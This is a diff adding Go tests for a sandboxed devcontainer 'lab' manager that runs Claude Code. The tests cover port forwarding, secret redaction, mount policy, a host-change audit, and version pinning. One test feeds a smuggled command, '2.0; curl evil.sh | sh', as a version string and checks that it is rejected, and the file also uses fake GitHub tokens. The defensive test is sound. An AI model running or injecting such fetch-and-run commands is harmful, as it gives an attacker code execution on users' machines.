+		meta, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base", Network: lab.NetworkNone,
+			Ports: []lab.PortMapping{{Host: startPort, Container: 3000}}})
+	})
+	if err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+	if strings.Contains(strings.Join(fake.Commands(), "\n"), "--publish") {
+		t.Error("ports of a lab without network should not be published")
+	}
+	if !forwarders.running(startPort) {
+		t.Fatal("forwarder for the start port not running")
+	}
+
+	// Adding a port to the running lab forwards it right away
+	stale := *meta
+	quietly(t, func() { err = mgr.AddPort(meta, lab.PortMapping{Host: addedPort, Container: 9229}) })
+	if err != nil {
+		t.Fatalf("AddPort: %v", err)
+	}
+	if !forwarders.running(addedPort) {
+		t.Fatal("forwarder for the added port not running")
+	}
+	if err := mgr.AddPort(meta, lab.PortMapping{Host: addedPort, Container: 8000}); err == nil {
+		t.Error("mapping a host port twice should fail")
+	}
+	ports := mgr.Ports(meta)
+	if len(ports) != 2 || ports[1].Mode != "forwarded" || !ports[1].Active || ports[1].PID == 0 {
+		t.Errorf("Ports = %+v", ports)
+	}
+
+	// Removing it stops its forwarder only, even through a copy of the lab
+	// loaded before it was added
+	if err := mgr.RemovePort(&stale, addedPort); err != nil {
+		t.Fatalf("RemovePort: %v", err)
+	}
+	if forwarders.running(addedPort) || !forwarders.running(startPort) {
+		t.Error("RemovePort should stop exactly its own forwarder")
+	}
+	saved, _ := mgr.Store().Load(meta.ID)
+	if len(saved.Ports) != 1 || saved.Ports[0].Host != startPort {
+		t.Errorf("saved ports = %+v", saved.Ports)
+	}
+
+	// Forwarders stop and resume with the lab
+	quietly(t, func() { _, err = mgr.Stop(meta) })
+	if err != nil || forwarders.running(startPort) {
+		t.Fatalf("Stop = %v, forwarder running = %v", err, forwarders.running(startPort))
+	}
+	if ports := mgr.Ports(meta); ports[0].Active {
+		t.Error("forwarded port of a stopped lab reported active")
+	}
+
+	// A PID file naming a live process that is not the forwarder is stale
+	pidPath := mgr.ForwarderPIDPath(meta.ID, startPort)
+	if err := os.WriteFile(pidPath, []byte(strconv.Itoa(os.Getpid())+"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if ports := mgr.Ports(meta); ports[0].Active {
+		t.Error("PID of an unrelated process taken for a forwarder")
+	}
+	quietly(t, func() { err = mgr.Resume(meta) })
+	if err != nil || !forwarders.running(startPort) {
+		t.Fatalf("Resume = %v, forwarder running = %v", err, forwarders.running(startPort))
+	}
+
+	quietly(t, func() { mgr.Remove(meta, true) })
+	if forwarders.running(startPort) {
+		t.Error("forwarder left running after Remove")
+	}
+}
+
+func TestStartRejectsBusyPort(t *testing.T) {
+	mgr, _, _ := newFakeEnv(t)
+	project := initTestRepo(t)
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Close()
+	busy := l.Addr().(*net.TCPAddr).Port
+
+	quietly(t, func() {
+		_, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base", Ports: []lab.PortMapping{{Host: busy, Container: 3000}}})
+	})
+	if err == nil || !strings.Contains(err.Error(), "not available") {
+		t.Errorf("Start with a busy host port = %v", err)
+	}
+	if labs, _ := mgr.Store().List(); len(labs) != 0 {
+		t.Errorf("nothing should be created: %d lab(s)", len(labs))
+	}
+}
+
+func TestSecretsStayOutOfDevcontainer(t *testing.T) {
+	mgr, fake, _ := newFakeEnv(t)
+	project := initTestRepo(t)
+	t.Setenv("GITHUB_TOKEN", "ghp_fromtheenvironment")
+
+	var meta *lab.Metadata
+	var err error
+	quietly(t, func() { meta, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base"}) })
+	if err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+
+	data, _ := os.ReadFile(devcontainer.ConfigPath(meta.Worktree))
+	if strings.Contains(string(data), "ghp_") || strings.Contains(string(data), "GITHUB_TOKEN") {
+		t.Errorf("devcontainer.json holds the secret:\n%s", data)
+	}
+
+	// postCreateCommand gets the token by name, with the value in the
+	// runtime CLI's environment
+	var postCreate *runner.Cmd
+	for _, c := range fake.Calls() {
+		if c.Name == "docker" && c.Args[0] == "exec" && strings.Contains(strings.Join(c.Args, " "), "touch") {
+			postCreate = &c
+		}
+	}
+	if postCreate == nil {
+		t.Fatal("postCreateCommand not run")
+	}
+	if args := strings.Join(postCreate.Args, " "); !strings.Contains(args, "-e GITHUB_TOKEN -w") || strings.Contains(args, "ghp_") {
+		t.Errorf("postCreateCommand args = %q", args)
+	}
+	if strings.Join(postCreate.Env, " ") != "GITHUB_TOKEN=ghp_fromtheenvironment" {
+		t.Errorf("postCreateCommand env = %v", postCreate.Env)
+	}
+
+	// The token the script echoed is redacted in the log
+	log, _ := os.ReadFile(mgr.LogPath(meta.ID))
+	if strings.Contains(string(log), "ghp_fromtheenvironment") || !strings.Contains(string(log), "x-access-token:[redacted]@") {
+		t.Errorf("provisioning log not redacted:\n%s", log)
+	}
+
+	// A devcontainer.json rendered by an older version, with the token in
+	// containerEnv, is redacted by inspect and scrubbed on resume
+	var dc map[string]interface{}
+	json.Unmarshal(data, &dc)
+	dc["containerEnv"].(map[string]interface{})["GITHUB_TOKEN"] = "ghp_rotatedsincethen"
+	old, _ := json.MarshalIndent(dc, "", "  ")
+	os.WriteFile(devcontainer.ConfigPath(meta.Worktree), old, 0o644)
+
+	details := mgr.Inspect(meta)
+	if strings.Contains(string(details.Devcontainer), "ghp_") {
+		t.Errorf("inspect shows the secret:\n%s", details.Devcontainer)
+	}
+	if len(details.Secrets) != 2 || details.Secrets[0].Source != lab.SecretFromEnvironment || details.Secrets[1].Source != "" {
+		t.Errorf("secret statuses = %+v", details.Secrets)
+	}
+
+	quietly(t, func() { mgr.Stop(meta); err = mgr.Resume(meta) })
+	if err != nil {
+		t.Fatalf("Resume: %v", err)
+	}
+	data, _ = os.ReadFile(devcontainer.ConfigPath(meta.Worktree))
+	if strings.Contains(string(data), "GITHUB_TOKEN") {
+		t.Errorf("resume should scrub the old secret:\n%s", data)
+	}
+	if cfg, err := devcontainer.LoadConfig(meta.Worktree); err != nil || cfg.ContainerEnv["CLAUDE_PROFILE"] != "base" {
+		t.Errorf("scrubbed devcontainer.json = %+v, %v", cfg, err)
+	}
+}
+
+func TestLabEnv(t *testing.T) {
+	mgr, fake, _ := newFakeEnv(t)
+	project := initTestRepo(t)
+	fake.On("docker", "update").Return("", nil)
+
+	var err error
+	quietly(t, func() {
+		_, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base", Env: map[string]string{"CLAUDE_PROFILE": "other"}})
+	})
+	if err == nil || !strings.Contains(err.Error(), "cannot be overridden") {
+		t.Errorf("Start overriding a built-in variable = %v", err)
+	}
+	quietly(t, func() {
+		_, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base", Network: lab.NetworkAllowlist,
+			Allowlist: lab.DefaultAllowlist, Env: map[string]string{"HTTPS_PROXY": "http://corp:3128"}})
+	})
+	if err == nil {
+		t.Error("an allowlist lab's proxy variables should not be overridable")
+	}
+
+	var meta *lab.Metadata
+	env := map[string]string{"ANTHROPIC_BASE_URL": "http://localhost:8080", "HTTPS_PROXY": "http://corp:3128"}
+	quietly(t, func() { meta, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base", Env: env}) })
+	if err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+	cfg, _ := devcontainer.LoadConfig(meta.Worktree)
+	if cfg.ContainerEnv["ANTHROPIC_BASE_URL"] != "http://localhost:8080" || cfg.ContainerEnv["HTTPS_PROXY"] != "http://corp:3128" {
+		t.Errorf("containerEnv = %v", cfg.ContainerEnv)
+	}
+
+	// Only the names are recorded
+	state, _ := os.ReadFile(filepath.Join(filepath.Dir(filepath.Dir(meta.Worktree)), "state", meta.ID+".json"))
+	if !strings.Contains(string(state), `"ANTHROPIC_BASE_URL"`) || strings.Contains(string(state), "localhost:8080") {
+		t.Errorf("metadata should record env names only:\n%s", state)
+	}
+
+	// Rendering again keeps the values
+	if err := mgr.UpdateResources(meta, lab.Resources{PidsLimit: 100}); err != nil {
+		t.Fatalf("UpdateResources: %v", err)
+	}
+	cfg, _ = devcontainer.LoadConfig(meta.Worktree)
+	if cfg.ContainerEnv["ANTHROPIC_BASE_URL"] != "http://localhost:8080" {
+		t.Errorf("containerEnv after re-render = %v", cfg.ContainerEnv)
+	}
+
+	// With devcontainer.json gone, resume takes values from the host
+	t.Setenv("ANTHROPIC_BASE_URL", "http://localhost:9090")
+	quietly(t, func() { mgr.Stop(meta) })
+	os.Remove(devcontainer.ConfigPath(meta.Worktree))
+	quietly(t, func() { err = mgr.Resume(meta) })
+	if err != nil {
+		t.Fatalf("Resume: %v", err)
+	}
+	cfg, _ = devcontainer.LoadConfig(meta.Worktree)
+	if cfg.ContainerEnv["ANTHROPIC_BASE_URL"] != "http://localhost:9090" {
+		t.Errorf("containerEnv after resume = %v", cfg.ContainerEnv)
+	}
+}
+
+func TestStartMountPolicy(t *testing.T) {
+	mgr, _, _ := newFakeEnv(t)
+	project := initTestRepo(t)
+	home := os.Getenv("HOME")
+	os.MkdirAll(filepath.Join(home, ".ssh"), 0o700)
+	os.WriteFile(filepath.Join(home, ".claude.json"), []byte("{}"), 0o600)
+	data := t.TempDir()
+
+	for _, opts := range []*lab.StartOptions{
+		{NoDefaultMounts: []string{"gnupg"}},
+		{Mounts: []lab.MountSpec{{Source: filepath.Join(data, "missing"), Target: "/data"}}},
+		{Mounts: []lab.MountSpec{{Source: data, Target: "/home/node/.ssh"}}},
+		{Isolation: lab.IsolationStrict, Mounts: []lab.MountSpec{{Source: data, Target: "/data"}}},
+	} {
+		opts.Project, opts.Profile = project, "base"
+		var err error
+		quietly(t, func() { _, err = mgr.Start(opts) })
+		if err == nil {
+			t.Errorf("Start(%+v) should fail", opts)
+		}
+	}
+
+	var meta *lab.Metadata
+	var err error
+	opts := &lab.StartOptions{
+		Project:         project,
+		Profile:         "base",
+		Isolation:       lab.IsolationStrict,
+		NoDefaultMounts: []string{lab.MountSSH},
+		Mounts:          []lab.MountSpec{{Source: data, Target: "/home/node/.ssh", ReadOnly: true}},
+	}
+	quietly(t, func() { meta, err = mgr.Start(opts) })
+	if err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+	if meta.Isolation != lab.IsolationStrict || len(meta.CustomMounts) != 1 {
+		t.Errorf("metadata = %+v, want the mount policy recorded", meta)
+	}
+
+	byTarget := make(map[string]lab.Mount)
+	for _, m := range mgr.Inspect(meta).Mounts {
+		if m.Name == lab.MountSSH {
+			if m.Applied || !strings.Contains(m.Skipped, "--no-default-mount") {
+				t.Errorf("default ssh mount = %+v, want it disabled", m)
+			}
+			continue
+		}
+		byTarget[m.Target] = m
+	}
+	if m := byTarget["/home/node/.ssh"]; !m.Custom || !m.Applied || m.Source != data {
+		t.Errorf("custom mount = %+v", m)
+	}
+	if m := byTarget["/tmp/host-claude.json"]; m.Name != lab.MountClaudeJSON || !m.Applied || !m.ReadOnly || m.Note == "" {
+		t.Errorf("~/.claude.json mount = %+v, want a read-only source for the copy", m)
+	}
+	if _, ok := byTarget["/home/node/.claude.json"]; ok {
+		t.Error("strict lab should not bind-mount ~/.claude.json")
+	}
+}
+
+func TestHostAudit(t *testing.T) {
+	mgr, _, _ := newFakeEnv(t)
+	project := initTestRepo(t)
+	home := os.Getenv("HOME")
+	os.WriteFile(filepath.Join(home, ".claude.json"), []byte(`{"theme": "dark"}`), 0o600)
+	os.MkdirAll(filepath.Join(home, ".claude-mem"), 0o755)
+	os.WriteFile(filepath.Join(home, ".claude-mem", "memory.db"), []byte("db"), 0o644)
+	profiles := filepath.Join(home, ".claudeup", "profiles")
+	os.MkdirAll(profiles, 0o755)
+	os.WriteFile(filepath.Join(profiles, "base.json"), []byte("{}"), 0o644)
+	data, docs := filepath.Join(t.TempDir(), "data"), t.TempDir()
+	os.WriteFile(filepath.Join(docs, "readme.txt"), []byte("docs"), 0o644)
+	// A symlinked root is fingerprinted through the link
+	if err := os.Symlink(t.TempDir(), data); err != nil {
+		t.Fatal(err)
+	}
+
+	var meta *lab.Metadata
+	var err error
+	quietly(t, func() {
+		meta, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base", Mounts: []lab.MountSpec{
+			{Source: data, Target: "/mnt/data"},
+			{Source: docs, Target: "/mnt/docs", ReadOnly: true},
+		}})
+	})
+	if err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+
+	report, err := mgr.Audit(meta)
+	// The three files under the mounts, the bare repo's config and its
+	// sample hooks
+	if err != nil || len(report.Changes) != 0 || report.Files < 4 {
+		t.Fatalf("Audit right after start = %+v, %v; want at least 4 files, no changes", report, err)
+	}
+
+	os.WriteFile(filepath.Join(home, ".claude.json"), []byte(`{"theme": "dark", "mcpServers": {"evil": {}}}`), 0o600)
+	os.WriteFile(filepath.Join(data, "dropped.sh"), []byte("x"), 0o755)
+	os.WriteFile(filepath.Join(docs, "readme.txt"), []byte("edited on the host"), 0o644)
+	os.WriteFile(filepath.Join(home, ".claude-mem", "leak.txt"), []byte("x"), 0o644)
+	os.Remove(filepath.Join(profiles, "base.json"))
+	os.Chmod(filepath.Join(home, ".claude-mem", "memory.db"), 0o600)
+	os.WriteFile(filepath.Join(meta.BareRepo, "hooks", "post-checkout"), []byte("#!/bin/sh"), 0o755)
+
+	report, err = mgr.Audit(meta)
+	if err != nil {
+		t.Fatalf("Audit: %v", err)
+	}
+	got := make(map[string]lab.HostChange)
+	for _, c := range report.Changes {
+		got[c.Path] = c
+	}
+	want := map[string]string{
+		filepath.Join(home, ".claude.json"):                    lab.ChangeModified,
+		filepath.Join(home, ".claude-mem", "leak.txt"):         lab.ChangeCreated,
+		filepath.Join(home, ".claude-mem", "memory.db"):        lab.ChangeModified,
+		filepath.Join(profiles, "base.json"):                   lab.ChangeDeleted,
+		filepath.Join(data, "dropped.sh"):                      lab.ChangeCreated,
+		filepath.Join(meta.BareRepo, "hooks", "post-checkout"): lab.ChangeCreated,
+	}
+	if len(got) != len(want) {
+		t.Errorf("changes = %+v, want %v", report.Changes, want)
+	}
+	for path, kind := range want {
+		if got[path].Kind != kind {
+			t.Errorf("change to %s = %+v, want %s", path, got[path], kind)
+		}
+	}
+	if c := got[filepath.Join(profiles, "base.json")]; c.Mount != lab.MountProfiles || c.Writable {
+		t.Errorf("profiles change = %+v, want it attributed to the read-only profiles mount", c)
+	}
+	if c := got[filepath.Join(home, ".claude.json")]; c.Mount != lab.MountClaudeJSON || !c.Writable {
+		t.Errorf(".claude.json change = %+v, want it attributed to the writable claude-json mount", c)
+	}
+	if c := got[filepath.Join(data, "dropped.sh")]; c.Mount != "mount" || !c.Writable {
+		t.Errorf("custom mount change = %+v, want it attributed to the writable --mount", c)
+	}
+	if c := got[filepath.Join(meta.BareRepo, "hooks", "post-checkout")]; c.Mount != "bare-repo" || !c.Writable {
+		t.Errorf("hook change = %+v, want it attributed to the bare repo", c)
+	}
+
+	quietly(t, func() { err = mgr.Remove(meta, true) })
+	var prompt *lab.BareRepoCleanupPrompt
+	if err != nil && !errors.As(err, &prompt) {
+		t.Fatalf("Remove: %v", err)
+	}
+	if _, err := mgr.Audit(meta); !errors.Is(err, lab.ErrNoFingerprint) {
+		t.Errorf("Audit after rm = %v, want ErrNoFingerprint", err)
+	}
+}
+
+func TestStartRejectsUnknownFeature(t *testing.T) {
+	mgr, fake, _ := newFakeEnv(t)
+	project := initTestRepo(t)
+
+	var err error
+	quietly(t, func() {
+		_, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base", Features: []string{"go", "pyhton"}})
+	})
+	if err == nil || !strings.Contains(err.Error(), `did you mean "python"`) {
+		t.Errorf("Start = %v, want an unknown feature error with a suggestion", err)
+	}
+	if labs, _ := mgr.Store().List(); len(labs) != 0 || fake.Ran("docker create") {
+		t.Errorf("nothing should be created for an unknown feature: %v", fake.Commands())
+	}
+}
+
+func TestStartRecordsImage(t *testing.T) {
+	mgr, fake, _ := newFakeEnv(t)
+	project := initTestRepo(t)
+
+	var meta *lab.Metadata
+	var err error
+	quietly(t, func() { meta, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base"}) })
+	if err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+	if meta.Image != docker.DefaultImage || meta.ImageDigest != "sha256:feed" {
+		t.Errorf("image = %q (%q), want the default image and its digest", meta.Image, meta.ImageDigest)
+	}
+
+	quietly(t, func() {
+		meta, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base", Name: "custom", Image: "lab:dev"})
+	})
+	if err != nil {
+		t.Fatalf("Start --image: %v", err)
+	}
+	if meta.Image != "lab:dev" || !fake.Ran("docker image inspect lab:dev") {
+		t.Errorf("image = %q, want lab:dev: %v", meta.Image, fake.Commands())
+	}
+}
+
+func TestStaleImageRebuilt(t *testing.T) {
+	mgr, fake, _ := newFakeEnv(t)
+	project := initTestRepo(t)
+	stale := fmt.Sprintf(`{%q: "0000000000000000"}`, docker.AssetsLabel)
+	fake.On("docker", "image", "inspect", "--format", "{{json .Config.Labels}}").Return(stale, nil)
+	fake.On("docker", "build")
+
+	var meta *lab.Metadata
+	var err error
+	quietly(t, func() { meta, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base"}) })
+	if err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+	if !fake.Ran("docker build -t " + docker.DefaultImage + " --label " + docker.AssetsLabel + "=" + docker.AssetsHash()) {
+		t.Errorf("stale base image should be rebuilt: %v", fake.Commands())
+	}
+	if !mgr.RunsStaleImage(meta) {
+		t.Error("RunsStaleImage should report a container whose image has an old assets label")
+	}
+
+	fake.On("docker", "image", "inspect", "--format", "{{json .Config.Labels}}").Return(fmt.Sprintf(`{%q: %q}`, docker.AssetsLabel, docker.AssetsHash()), nil)
+	if mgr.RunsStaleImage(meta) {
+		t.Error("an image built from the current assets is not stale")
+	}
+}
+
+func TestStartBuildsProjectDockerfile(t *testing.T) {
+	mgr, fake, _ := newFakeEnv(t)
+	project := initTestRepo(t)
+
+	os.WriteFile(filepath.Join(project, "Dockerfile.lab"), []byte("FROM ubuntu:24.04\n"), 0o644)
+	var err error
+	quietly(t, func() { _, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base"}) })
+	if err == nil || !strings.Contains(err.Error(), "CLAUDEUP_LAB_IMAGE") {
+		t.Errorf("Start = %v, want a Dockerfile that does not build on the base image rejected", err)
+	}
+
+	content := []byte("ARG CLAUDEUP_LAB_IMAGE\nFROM ${CLAUDEUP_LAB_IMAGE}\nRUN apt-get install -y postgresql-client\n")
+	os.MkdirAll(filepath.Join(project, "docker"), 0o755)
+	os.WriteFile(filepath.Join(project, "docker", "lab.Dockerfile"), content, 0o644)
+	os.MkdirAll(filepath.Join(project, ".claudeup-lab"), 0o755)
+	os.WriteFile(filepath.Join(project, ".claudeup-lab", "config.json"), []byte(`{"dockerfile": "docker/lab.Dockerfile"}`), 0o644)
+	tag := docker.LayerTag(content, "sha256:feed")
+	fake.On("docker", "image", "inspect", tag).Fail(1, "No such image")
+	fake.On("docker", "build")
+
+	var meta *lab.Metadata
+	quietly(t, func() { meta, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base"}) })
+	if err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+	if meta.LayerImage != tag || meta.Dockerfile != filepath.Join(project, "docker", "lab.Dockerfile") {
+		t.Errorf("metadata = %+v, want the layer recorded", meta)
+	}
+	if !fake.Ran("docker build -f " + meta.Dockerfile + " -t " + tag) {
+		t.Errorf("layer should be built: %v", fake.Commands())
+	}
+	cfg, err := devcontainer.LoadConfig(meta.Worktree)
+	if err != nil {
+		t.Fatalf("LoadConfig: %v", err)
+	}
+	if cfg.Image != tag {
+		t.Errorf("devcontainer image = %q, want %q", cfg.Image, tag)
+	}
+}
+
+func TestStartOffline(t *testing.T) {
+	mgr, fake, _ := newFakeEnv(t)
+	project := initTestRepo(t)
+	fake.On("docker", "image", "inspect", "lab:missing").Fail(1, "No such image")
+
+	var err error
+	quietly(t, func() {
+		_, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base", Image: "lab:missing", Offline: true})
+	})
+	if err == nil || !strings.Contains(err.Error(), "cannot be pulled offline") {
+		t.Errorf("Start = %v, want a missing image reported as needing the network", err)
+	}
+	if fake.Ran("docker pull") || fake.Ran("docker build") {
+		t.Errorf("offline start should not pull or build: %v", fake.Commands())
+	}
+
+	t.Setenv("CLAUDE_CONFIG_REPO", "https://github.com/example/claude-config")
+	quietly(t, func() { _, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base", Offline: true}) })
+	if err == nil || !strings.Contains(err.Error(), "CLAUDE_CONFIG_REPO") {
+		t.Errorf("Start = %v, want the config repo clone refused offline", err)
+	}
+	t.Setenv("CLAUDE_CONFIG_REPO", "")
+
+	t.Setenv("CLAUDEUP_LAB_OFFLINE", "1")
+	var meta *lab.Metadata
+	quietly(t, func() { meta, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base"}) })
+	if err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+	if !meta.Offline {
+		t.Error("CLAUDEUP_LAB_OFFLINE=1 should start the lab offline")
+	}
+	cfg, err := devcontainer.LoadConfig(meta.Worktree)
+	if err != nil {
+		t.Fatalf("LoadConfig: %v", err)
+	}
+	if strings.Contains(cfg.PostCreateCommand, "claude upgrade") {
+		t.Errorf("postCreateCommand = %q, want no claude upgrade offline", cfg.PostCreateCommand)
+	}
+}
+
+func TestStartFallsBackOffline(t *testing.T) {
+	mgr, fake, _ := newFakeEnv(t)
+	project := initTestRepo(t)
+	t.Setenv("CLAUDEUP_LAB_OFFLINE", "")
+	for _, key := range []string{"HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"} {
+		t.Setenv(key, "")
+	}
+
+	// Nothing listens on port 1, so the registry looks unreachable; the
+	// pull is still tried and the local image used when it fails
+	image := "127.0.0.1:1/lab:dev"
+	fake.On("docker", "pull").Fail(1, "connection refused")
+	var meta *lab.Metadata
+	var err error
+	quietly(t, func() { meta, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base", Image: image}) })
+	if err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+	if !fake.Ran("docker pull " + image) {
+		t.Error("unreachable registry should still be pulled from")
+	}
+	if meta.Offline {
+		t.Error("a fallback to offline should not be recorded with the lab")
+	}
+	cfg, err := devcontainer.LoadConfig(meta.Worktree)
+	if err != nil {
+		t.Fatalf("LoadConfig: %v", err)
+	}
+	if strings.Contains(cfg.PostCreateCommand, "claude upgrade") {
+		t.Errorf("postCreateCommand = %q, want the fallback provisioned offline", cfg.PostCreateCommand)
+	}
+
+	// Re-rendering for new limits keeps the fallback, with the version
+	// the container reported checked instead of installed
+	fake.On("docker", "update").Return("", nil)
+	if err := mgr.UpdateResources(meta, lab.Resources{PidsLimit: 256}); err != nil {
+		t.Fatalf("UpdateResources: %v", err)
+	}
+	if cfg, err = devcontainer.LoadConfig(meta.Worktree); err != nil {
+		t.Fatalf("LoadConfig: %v", err)
+	}
+	if strings.Contains(cfg.PostCreateCommand, "claude install") || cfg.ContainerEnv["CLAUDEUP_LAB_OFFLINE"] != "1" {
+		t.Errorf("postCreateCommand = %q, want the lab still provisioned offline", cfg.PostCreateCommand)
+	}
+
+	// Behind a proxy the registry is not probed directly
+	t.Setenv("HTTPS_PROXY", "http://proxy.example.com:3128")
+	pulls := strings.Count(strings.Join(fake.Commands(), "\n"), "docker pull")
+	quietly(t, func() {
+		meta, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base", Image: image, Name: "proxied"})
+	})
+	if err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+	if strings.Count(strings.Join(fake.Commands(), "\n"), "docker pull") != pulls {
+		t.Error("a local image should not be pulled behind a proxy")
+	}
+	if cfg, _ := devcontainer.LoadConfig(meta.Worktree); cfg == nil || !strings.Contains(cfg.PostCreateCommand, "claude upgrade") {
+		t.Error("a lab behind a proxy should be provisioned online")
+	}
+}
+
+func TestStartPinsVersions(t *testing.T) {
+	mgr, fake, _ := newFakeEnv(t)
+	project := initTestRepo(t)
+
+	// Rejected before anything is created, including a profile snapshot
+	var err error
+	quietly(t, func() {
+		_, err = mgr.Start(&lab.StartOptions{Project: project, ClaudeVersion: "2.0; curl evil.sh | sh"})
+	})
+	if err == nil || !strings.Contains(err.Error(), "invalid Claude Code version") {
+		t.Errorf("Start = %v, want the version rejected", err)
+	}
+	if fake.Ran("claudeup profile save") {
+		t.Error("profile snapshotted before the version was validated")
+	}
+	if labs, _ := mgr.Store().List(); len(labs) != 0 {
+		t.Errorf("labs after a rejected version = %v, want none", labs)
+	}
+
+	var meta *lab.Metadata
+	quietly(t, func() {
+		meta, err = mgr.Start(&lab.StartOptions{Project: project, Profile: "base", ClaudeVersion: "2.0.14", ClaudeupVersion: "v1.3.0"})
+	})
+	if err != nil {
+		t.Fatalf("Start: %v", err)
+	}
+	cfg, err := devcontainer.LoadConfig(meta.Worktree)
+	if err != nil {
+		t.Fatalf("LoadConfig: %v", err)
+	}
+	if !strings.HasPrefix(cfg.PostCreateCommand, "claude install 2.0.14 && ") || cfg.ContainerEnv["CLAUDEUP_VERSION"] != "v1.3.0" {
+		t.Errorf("devcontainer.json = %q, %v, want the pinned versions installed", cfg.PostCreateCommand, cfg.ContainerEnv)
+	}
+	if meta.ClaudeVersion != "2.0.14" || meta.ClaudeupVersion != "1.3.0" {
+		t.Errorf("versions = %q/%q, want what the container reports", meta.ClaudeVersion, meta.ClaudeupVersion)
+	}
+	if saved, _ := mgr.Store().Load(meta.ID); saved == nil || saved.ClaudeVersion != "2.0.14" {
+		t.Errorf("saved metadata = %+v, want the versions recorded", saved)
+	}
+}